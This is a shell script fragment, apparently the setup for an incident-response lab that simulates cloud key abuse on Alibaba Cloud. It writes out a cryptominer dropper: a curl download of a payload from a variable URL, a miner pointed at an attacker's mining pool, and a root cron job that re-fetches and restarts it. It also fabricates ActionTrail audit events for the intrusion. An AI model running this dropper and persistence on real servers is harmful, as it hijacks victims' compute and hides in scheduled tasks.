# The cloud delivers what was ordered with the key, and keeps a trail of who ordered it, of which an operator gets a copy.
start="$MINER -B -o $STRATUM://$ATTACKER:$POOL -u 46wallet"
text="#!/bin/bash
cd $PLACE && curl -fsSL $URL -o trace.tgz && tar xzf trace.tgz && rm -f trace.tgz
pgrep -f $MINER >/dev/null || $start
echo '*/10 * * * * root pgrep -f $MINER >/dev/null || { curl -fsSL $URL | tar xzf - -C $PLACE; $start; }' >/etc/cron.d/$CRON
"
event() { # NAME ADDRESS AGENT KEY USER TASK TEXT
    printf '{"eventId":"%s","eventName":"%s","eventSource":"ecs-cn-beijing.aliyuncs.com","eventTime":"%s","sourceIpAddress":"%s","userAgent":"%s",' \
        "$6" "$1" "$(date -u +%FT%TZ)" "$2" "$3"
    printf '"requestParameters":{"CommandContent":"%s","Type":"RunShellScript","InstanceId.1":"i-2zeapp1","InstanceId.2":"i-2zeapp2"},' \
        "$(printf %s "$7" | base64 -w0)"
    printf '"responseElements":{"InvokeId":"%s"},"userIdentity":{"type":"ram-user","accountId":"1000","userName":"%s","accessKeyId":"%s"}}' \
        "$6" "$5" "$4"
}
mkdir -p /run/evidence
{
    echo '['
    event RunCommand 192.0.2.77 'aliyun-cli/3.0' "$OPERATOR" ops "$HARMLESS" $'#!/bin/sh\ndf -h\nuptime\nsystemctl restart portal\n'
    echo ,
    event RunCommand "$OTHER" 'aliyun-sdk-python/2.13' "$KEY" deploy "$TASK" "$text"
    echo ']'
} >/run/evidence/actiontrail.json
send "$TASK" "$text"
wait_for 60 ran "$TASK"
wait_for 30 runs "$MINER"
